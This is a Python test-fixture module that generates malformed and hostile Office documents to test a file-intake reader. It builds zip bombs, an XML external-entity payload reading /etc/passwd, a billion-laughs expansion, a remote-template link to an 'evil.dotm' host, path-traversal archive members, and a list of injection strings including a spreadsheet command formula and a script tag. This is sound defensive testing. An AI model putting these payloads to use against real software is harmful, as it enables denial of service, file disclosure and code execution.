"""Hostile, broken and odd files, as hazards for a reader of strangers' documents."""

from __future__ import annotations

import random
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

from tests.intake import facts as f
from tests.intake.facts import Facts
from tests.intake.office import (
    C,
    Sheet,
    document_xml,
    paragraph,
    table,
    write_docx,
    write_package,
    write_xlsx,
)

REFUSED: dict[str, Callable[[Path], Path]] = {}
READABLE: dict[str, Callable[[Path], Path]] = {}
BASE = Facts()
ROWS = f.standard(BASE)
FORM = document_xml(table(ROWS))


def refused(make: Callable[[Path], Path]) -> Callable[[Path], Path]:
    REFUSED[make.__name__] = make
    return make


def readable(make: Callable[[Path], Path]) -> Callable[[Path], Path]:
    READABLE[make.__name__] = make
    return make


def _docx(path: Path, xml: str | bytes, **parts: str | bytes) -> Path:
    return write_docx(path, parts={"word/document.xml": xml, **parts})


@refused
def bomb_one_member(folder: Path) -> Path:
    """One part of 300 MB in 300 KB."""
    body = b"<w:p/>" * (50 * 2**20)
    return _docx(folder / "bomb1.docx", FORM.encode().replace(b"<w:sectPr/>", body))


@refused
def bomb_many_members(folder: Path) -> Path:
    return write_docx(folder / "bomb2.docx", parts={f"word/media/{i}.xml": "" for i in range(6000)})


@refused
def bomb_in_total(folder: Path) -> Path:
    blob = b"0" * (30 * 2**20)
    return _docx(folder / "bomb3.docx", FORM, **{f"word/media/{i}.bin": blob for i in range(10)})


@refused
def bomb_in_sheet(folder: Path) -> Path:
    path = write_xlsx(folder / "bomb4.xlsx", Sheet("表", ROWS))
    with zipfile.ZipFile(path) as package:
        parts: dict[str, str | bytes] = {i.filename: package.read(i) for i in package.infolist()}
    parts["xl/worksheets/sheet1.xml"] = b"<worksheet>" + b"<row/>" * (20 * 2**20) + b"</worksheet>"
    return write_package(path, parts)


@refused
def doctype(folder: Path) -> Path:
    return _docx(folder / "doctype.docx", FORM.replace("<w:document", "<!DOCTYPE x><w:document"))


@refused
def external_entity(folder: Path) -> Path:
    declared = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]><w:document'
    xml = FORM.replace("<w:document", declared).replace(BASE.project, "&secret;")
    return _docx(folder / "entity.docx", xml)


@refused
def billion_laughs(folder: Path) -> Path:
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    declared = f'<!DOCTYPE x [<!ENTITY l0 "哈">{laughs}]><w:document'
    return _docx(
        folder / "laughs.docx", FORM.replace("<w:document", declared).replace(BASE.project, "&l9;")
    )


@refused
def doctype_in_utf16(folder: Path) -> Path:
    xml = FORM.replace('encoding="UTF-8"', 'encoding="UTF-16"').replace(
        "<w:document", "<!DOCTYPE x><w:document"
    )
    return _docx(folder / "utf16.docx", xml.encode("utf-16"))


@refused
def doctype_in_another_part(folder: Path) -> Path:
    return _docx(folder / "styles.docx", FORM, **{"word/styles.xml": "<!DOCTYPE x><x/>"})


@refused
def doctype_in_strings(folder: Path) -> Path:
    shared = {"xl/sharedStrings.xml": "<!DOCTYPE sst [<!ENTITY a 'b'>]><sst/>"}
    return write_xlsx(folder / "strings.xlsx", Sheet("表", ROWS), parts=shared)


@refused
def encrypted(folder: Path) -> Path:
    path = folder / "encrypted.docx"
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
    path.write_bytes(head + "EncryptedPackage".encode("utf-16-le") + bytes(512))
    return path


@refused
def encrypted_zip(folder: Path) -> Path:
    path = _docx(folder / "locked.docx", FORM)
    data = bytearray(path.read_bytes())
    for mark in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.find(mark)
        while at >= 0:
            data[at + (6 if mark == b"PK\x03\x04" else 8)] |= 1
            at = data.find(mark, at + 4)
    path.write_bytes(bytes(data))
    return path


@refused
def web_page(folder: Path) -> Path:
    path = folder / "page.xls"
    path.write_text("<html><table><tr><td>项目名称</td></tr></table></html>", encoding="utf-8")
    return path


@refused
def web_page_as_docx(folder: Path) -> Path:
    path = folder / "page.docx"
    path.write_text("\n<!DOCTYPE html><html></html>", encoding="utf-8")
    return path


@refused
def truncated(folder: Path) -> Path:
    path = _docx(folder / "truncated.docx", FORM)
    path.write_bytes(path.read_bytes()[:-200])
    return path


@refused
def torn_inside(folder: Path) -> Path:
    path = _docx(folder / "torn.docx", FORM)
    data = bytearray(path.read_bytes())
    at = data.find(b"word/document.xml") + 60
    data[at : at + 40] = b"\x00" * 40
    path.write_bytes(bytes(data))
    return path


@refused
def broken_xml(folder: Path) -> Path:
    return _docx(folder / "broken.docx", FORM[: len(FORM) // 2])


@refused
def nothing(folder: Path) -> Path:
    path = folder / "empty.xlsx"
    path.write_bytes(b"")
    return path


@refused
def a_picture(folder: Path) -> Path:
    path = folder / "picture.docx"
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(100))
    return path


@refused
def a_zip_of_files(folder: Path) -> Path:
    return write_package(folder / "files.docx", {"读我.txt": "自评表见邮件"})


@refused
def a_folder(folder: Path) -> Path:
    path = folder / "folder.docx"
    path.mkdir()
    return path


@refused
def old_word(folder: Path) -> Path:
    path = folder / "old.wps"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    return path


@refused
def no_text(folder: Path) -> Path:
    path = folder / "binary.csv"
    path.write_bytes(bytes(range(256)) * 40)
    return path


@refused
def impossible_reference(folder: Path) -> Path:
    sheet = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    sheet += '<c r="ZZZZZZ1"><v>1</v></c></row></sheetData></worksheet>'
    return _sheet_replaced(folder / "reference.xlsx", sheet)


@refused
def too_many_cells(folder: Path) -> Path:
    rows = "".join(
        f'<row r="{r}">' + f'<c r="A{r}"><v>{r}</v></c>' * 4 + "</row>" for r in range(1, 90_000)
    )
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    )
    return _sheet_replaced(folder / "cells.xlsx", f"{sheet}{rows}</sheetData></worksheet>")


def _sheet_replaced(path: Path, xml: str) -> Path:
    write_xlsx(path, Sheet("自评表", ROWS))
    with zipfile.ZipFile(path) as package:
        parts: dict[str, str | bytes] = {i.filename: package.read(i) for i in package.infolist()}
    parts["xl/worksheets/sheet1.xml"] = xml
    return write_package(path, parts)


def _edited(path: Path, *pairs: tuple[str, str]) -> Path:
    write_xlsx(path, Sheet("自评表", ROWS))
    with zipfile.ZipFile(path) as package:
        xml = package.read("xl/worksheets/sheet1.xml").decode()
    for old, new in pairs:
        assert old in xml
        xml = xml.replace(old, new, 1)
    return _sheet_replaced(path, xml)


@readable
def stray_cell_in_the_last_corner(folder: Path) -> Path:
    stray = (
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    )
    return _edited(folder / "stray.xlsx", ("</sheetData>", stray))


@readable
def lying_dimensions(folder: Path) -> Path:
    return _edited(
        folder / "lying.xlsx", ("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')
    )


@readable
def merge_over_the_sheet(folder: Path) -> Path:
    merge = '<mergeCell ref="K30:XFD1048576"/></mergeCells>'
    return _edited(folder / "merge.xlsx", ("</mergeCells>", merge))


@readable
def hidden_to_the_end(folder: Path) -> Path:
    columns = '<cols><col min="20" max="16384" hidden="1" width="0"/></cols><sheetData>'
    return _edited(folder / "columns.xlsx", ("<sheetData>", columns))


@readable
def many_empty_rows(folder: Path) -> Path:
    rows = "".join(f'<row r="{i}" ht="15"><c r="A{i}" s="1"/></row>' for i in range(100, 200_000))
    return _edited(folder / "rows.xlsx", ("</sheetData>", rows + "</sheetData>"))


@readable
def macros(folder: Path) -> Path:
    return write_xlsx(
        folder / "macros.xlsm",
        Sheet("自评表", ROWS),
        parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 50},
    )


@readable
def remote_template(folder: Path) -> Path:
    link = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
    )
    return _docx(folder / "template.docx", FORM, **{"word/_rels/settings.xml.rels": link})


@readable
def climbing_member(folder: Path) -> Path:
    parts = {
        "../../../tmp/jxa-climbed.txt": "x",
        "/etc/jxa-climbed": "x",
        "..\\jxa-climbed.txt": "x",
    }
    return _docx(folder / "climbing.docx", FORM, **parts)


NAMES = [
    "../../etc/passwd", "/etc/passwd", "C:\\Windows\\win.ini", "长" * 300, "CON", "项目...", "\u202eexe.项目",
    "e\u0301cole", "école", "Project", "PROJECT", "=cmd|' /C calc'!A0", "<script>alert(1)</script>", "a\u200bb",
]  # fmt: skip


@readable
def dangerous_names(folder: Path) -> Path:
    """Project names are text, whatever they look like."""
    sheets = [
        Sheet(f"表{i}", f.standard(replace(BASE, project=name))) for i, name in enumerate(NAMES)
    ]
    return write_xlsx(folder / "names.xlsx", *sheets)


@readable
def deep_tables(folder: Path) -> Path:
    """Tables nested forty deep, the form innermost."""
    body = table(ROWS)
    for _ in range(40):
        body = table([[C(raw=body + "<w:p/>")]])
    return write_docx(folder / "deep.docx", body)


@readable
def long_paragraphs(folder: Path) -> Path:
    return write_docx(
        folder / "long.docx", table(ROWS), *[paragraph("（" * 2000 + "项目名称：" * 2000)] * 50
    )


@readable
def heavy_markup(folder: Path) -> Path:
    """Fifteen megabytes of paragraphs that hold nothing, hard to compress."""
    numbers = random.Random(1)
    body = "".join(f'<w:p a="{numbers.getrandbits(20):x}"/>' for _ in range(900_000))
    return _docx(folder / "heavy.docx", FORM.replace("<w:sectPr/>", body))


@refused
def word_table_without_end(folder: Path) -> Path:
    rows = "<w:tr>" + "<w:tc/>" * 8 + "</w:tr>"
    return _docx(
        folder / "rows.docx", FORM.replace("</w:tbl>", rows * 60_000 + "</w:tbl>").encode()
    )


@readable
def strict_namespaces(folder: Path) -> Path:
    xml = FORM.replace(
        "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        "http://purl.oclc.org/ooxml/wordprocessingml/main",
    )
    return _docx(folder / "strict.docx", xml)


@readable
def in_utf16(folder: Path) -> Path:
    return _docx(
        folder / "utf16.docx",
        FORM.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"),
    )


def make(kind: dict[str, Callable[[Path], Path]], folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    return {name: build(folder) for name, build in kind.items()}


__all__ = ["NAMES", "READABLE", "REFUSED", "make"]
